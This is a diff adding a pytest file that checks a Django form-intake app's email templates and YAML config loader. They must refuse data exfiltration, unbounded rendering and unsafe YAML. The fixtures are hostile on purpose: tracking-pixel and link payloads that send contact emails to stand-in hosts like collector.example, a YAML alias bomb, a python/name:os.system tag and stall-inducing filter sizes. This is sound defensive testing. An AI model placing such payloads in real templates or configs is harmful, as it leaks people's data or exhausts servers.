@@ -1,0 +1,262 @@
+"""Templates cannot carry data out or stall, and the YAML they come in cannot either.
+
+A template value inside an attribute of the HTML email that loads or links is refused
+(it would send the value to whoever serves the URL); a size a filter takes is capped;
+loops nest at most two deep; nothing reaches the clock (`now`) by any path. A YAML
+file with aliases, anchors or tags, too deep or too big is refused, named, never a
+traceback. Each refusal comes within seconds, and a template that passes still
+renders within bounds of output and time.
+"""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.core.management import call_command
+from django.core.management.base import CommandError
+
+from idempotency_core.configuration.document import document_problems
+from idempotency_core.configuration.templates import (
+    TemplateRenderError,
+    template_problem,
+    template_render,
+    template_values,
+)
+from idempotency_core.configuration.yamlfile import YamlFileError, yaml_load
+from idempotency_core.intake.sources import source_get_or_create
+from idempotency_core.models import BusinessConfigVersion
+
+LOOPS_7 = "".join(f"{{% for x{n} in message %}}" for n in range(7)) + "x" + ("{% endfor %}" * 7)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "{{ message|ljust:300000000 }}",
+        "{{ message|rjust:'5000' }}",
+        "{{ message|center:1001 }}",
+        '{{ 5|stringformat:"0200000000d" }}',
+        '{{ 5|stringformat:"-.5000f" }}',
+        "{{ fields.amount|floatformat:2000 }}",
+        "{{ message|truncatechars:100000 }}",
+        "{{ message|wordwrap:100000 }}",
+        "{{ message|ljust:fields.width }}",
+        "{% if message|ljust:300000000 %}x{% endif %}",
+        "{% for c in message|center:99999 %}{% endfor %}",
+        LOOPS_7,
+        "{% for a in message %}{% for b in message %}{% for c in message %}"
+        "{% endfor %}{% endfor %}{% endfor %}",
+        "{{ submitted_at.now }}",
+        "{{ submitted_at.today|date:'Y' }}",
+        "{% with d=submitted_at %}{{ d.utcnow }}{% endwith %}",
+        "{% if submitted_at.now %}x{% endif %}",
+        "{{ fields.list|join:message }}",
+    ],
+)
+def test_what_could_stall_or_reach_the_clock_is_refused(source: str) -> None:
+    started = time.monotonic()
+    assert template_problem(source) is not None, source
+    assert time.monotonic() - started < 2
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "{{ message|ljust:20 }}",
+        '{{ 5|stringformat:"05d" }}',
+        "{{ fields.amount|floatformat:2 }}",
+        "{% for a in fields.rooms %}{% for b in a.items %}{{ b }}{% endfor %}{% endfor %}",
+        "{{ submitted_at|date:'j F Y' }}",
+        "{{ fields.list|join:', ' }}",
+    ],
+)
+def test_ordinary_sizes_and_two_loops_are_accepted(source: str) -> None:
+    assert template_problem(source) is None, source
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<img src="https://collector.example/p.gif?e={{ contact.email|urlencode }}">',
+        '<a href="https://example.com/?who={{ contact.name }}">us</a>',
+        "<a href={{ fields.site }}>us</a>",
+        '<img srcset="https://x.example/{% firstof contact.phone %} 2x">',
+        '<form action="https://x.example/{{ message }}"></form>',
+        '<button formaction="https://x.example/{{ message }}">b</button>',
+        '<video poster="https://x.example/{{ message }}"></video>',
+        '<table background="https://x.example/{{ message }}"></table>',
+        "<p style=\"background:url('https://x.example/{{ contact.email }}')\">Hi</p>",
+        "<style>p { background: url(https://x.example/{{ contact.email }}) }</style>",
+        '<img {% if message %}src="https://x.example/a.gif"{% endif %}>',
+        '<meta http-equiv="refresh" content="0;url=https://x.example/{{ message }}">',
+    ],
+)
+def test_a_value_in_a_loading_or_linking_attribute_is_refused(html: str) -> None:
+    problem = template_problem("<p>Hello</p>\n" + html, html=True)
+    assert problem is not None, html
+    assert problem.line == 2, (html, problem)
+
+
+def test_values_in_the_html_text_and_fixed_links_are_accepted() -> None:
+    html = (
+        '<p class="greeting">Hello {{ contact.name }},</p>\n'
+        '<p><a href="https://example.com/contact">Write to us</a> about {{ message }}</p>'
+    )
+    assert template_problem(html, html=True) is None
+
+
+def test_the_html_rule_names_the_files_line() -> None:
+    text = (
+        'sources:\n  website:\n    forms:\n      "*":\n        confirmation:\n'
+        "          html: |\n            <p>Hello</p>\n"
+        '            <img src="https://c.example/p.gif?e={{ contact.email|urlencode }}">\n'
+    )
+    document, marks, _ = yaml_load(text)
+    (problem,) = document_problems(document, sources={"website"}, marks=marks)
+    assert problem.line == 8
+    assert "src" in problem.message
+
+
+def test_a_language_variants_html_is_held_to_the_same_rule() -> None:
+    document = {
+        "sources": {
+            "website": {
+                "forms": {
+                    "*": {
+                        "confirmation": {
+                            "language_field": "fields.lang",
+                            "languages": {"fr": {"html": '<a href="{{ message }}">x</a>'}},
+                        }
+                    }
+                }
+            }
+        }
+    }
+    (problem,) = document_problems(document, sources={"website"})
+    assert problem.where.endswith("languages.fr.html")
+
+
+def test_a_reply_to_outside_the_allowed_domains_is_refused(settings: Any) -> None:
+    settings.ONEFOLD_REPLY_TO_DOMAINS = ["example.com"]
+
+    def problems(reply_to: str) -> list[str]:
+        block = {"confirmation": {"reply_to": reply_to}}
+        document = {"sources": {"website": {"forms": {"*": block}}}}
+        return [p.message for p in document_problems(document, sources={"website"})]
+
+    assert problems("office@example.com") == []
+    assert problems("desk@sales.example.com") == []
+    (said,) = problems("office@collector.example")
+    assert "example.com" in said
+    assert problems("{{ fields.rep }}@collector.example")
+    assert problems("{{ fields.rep }}") != []
+    assert problems("{{ fields.rep }}@example.com") == []
+
+
+def test_rendering_is_bounded_in_output() -> None:
+    values = template_values({"message": "x" * 60_000})
+    started = time.monotonic()
+    with pytest.raises(TemplateRenderError, match="longer than"):
+        template_render("{% for a in message %}{{ message }}{% endfor %}", values)
+    assert time.monotonic() - started < 5
+
+
+def test_rendering_is_bounded_in_time() -> None:
+    values = template_values({"fields": {"items": list(range(20_000))}})
+    source = "{% for a in fields.items %}{% for b in fields.items %}{% endfor %}{% endfor %}"
+    assert template_problem(source) is None
+    started = time.monotonic()
+    with pytest.raises(TemplateRenderError, match="seconds"):
+        template_render(source, values)
+    assert time.monotonic() - started < 5
+
+
+def test_a_template_the_checks_refuse_is_not_rendered_even_if_stored() -> None:
+    with pytest.raises(TemplateRenderError):
+        template_render("{{ message|ljust:300000000 }}", template_values({"message": "x"}))
+    with pytest.raises(TemplateRenderError):
+        template_render("{{ submitted_at.now }}", template_values({}))
+
+
+# -- the YAML file ---------------------------------------------------------------------
+
+ALIAS_BOMB = (
+    "a: &a [x, x, x, x, x, x, x, x, x]\n"
+    + "".join(
+        f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8)
+    )
+    + "sources: {website: {forms: {'*': {task: {title: *i}}}}}\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        (ALIAS_BOMB, "alias"),
+        ("defaults: &d {title: x}\nsources: {}\n", "anchor"),
+        ("a: &a [*a]\n", "anchor"),
+        ("sources: !!python/name:os.system x\n", "tag"),
+        ("sources: !!str x\n", "tag"),
+        ("sources: " + "[" * 5000 + "]" * 5000 + "\n", "deep"),
+        ("sources:\n" + "".join("  " * n + f"k{n}:\n" for n in range(1, 200)), "deep"),
+        ("sources: {}\n# " + "x" * (1024 * 1024) + "\n", "1 MiB"),
+    ],
+    ids=["alias-bomb", "anchor", "self-alias", "python-tag", "str-tag", "brackets", "block", "big"],
+)
+def test_yaml_that_could_exhaust_the_machine_is_refused_with_a_reason(text: str, said: str) -> None:
+    started = time.monotonic()
+    with pytest.raises(YamlFileError) as raised:
+        yaml_load(text)
+    assert said in raised.value.problem.message
+    assert time.monotonic() - started < 3
+
+
+@pytest.fixture
+def website(db: None) -> None:
+    source_get_or_create(name="website")
+
+
+def _block(task: str = "", html: str = "") -> str:
+    lines = ['sources:\n  website:\n    forms:\n      "*":\n']
+    if task:
+        lines.append(f"        task:\n          title: '{task}'\n")
+    if html:
+        lines.append(f"        confirmation:\n          html: '{html}'\n")
+    return "".join(lines)
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        (_block(html='<img src="https://c.example/p.gif?e={{ contact.email|urlencode }}">'), "src"),
+        (_block(html='<a href="https://c.example/?n={{ contact.name }}">us</a>'), "href"),
+        (_block(task="{{ message|ljust:300000000 }}"), "1000"),
+        (_block(task=LOOPS_7), "loops"),
+        (ALIAS_BOMB, "alias"),
+        ("sources: !!python/name:os.system x\n", "tag"),
+        ("sources: " + "[" * 5000 + "]" * 5000 + "\n", "deep"),
+    ],
+    ids=["img-src", "a-href", "ljust", "loops", "alias-bomb", "python-tag", "brackets"],
+)
+def test_config_apply_dry_run_refuses_each_within_seconds(
+    website: None, tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, said: str
+) -> None:
+    path = tmp_path / "onefold.yaml"
+    path.write_text(text)
+    started = time.monotonic()
+    with pytest.raises(CommandError, match="nothing applied"):
+        call_command("config", "apply", str(path), "--dry-run")
+    assert time.monotonic() - started < 5
+    err = capsys.readouterr().err
+    assert said in err and "line " in err, err
+    assert not BusinessConfigVersion.objects.exists()
+
+
+def test_config_apply_refuses_a_file_over_a_mebibyte_unread(website: None, tmp_path: Path) -> None:
+    path = tmp_path / "onefold.yaml"
+    path.write_text("sources: {}\n" + "#" * (2 * 1024 * 1024) + "\n")
+    with pytest.raises(CommandError, match="1 MiB"):
+        call_command("config", "apply", str(path))
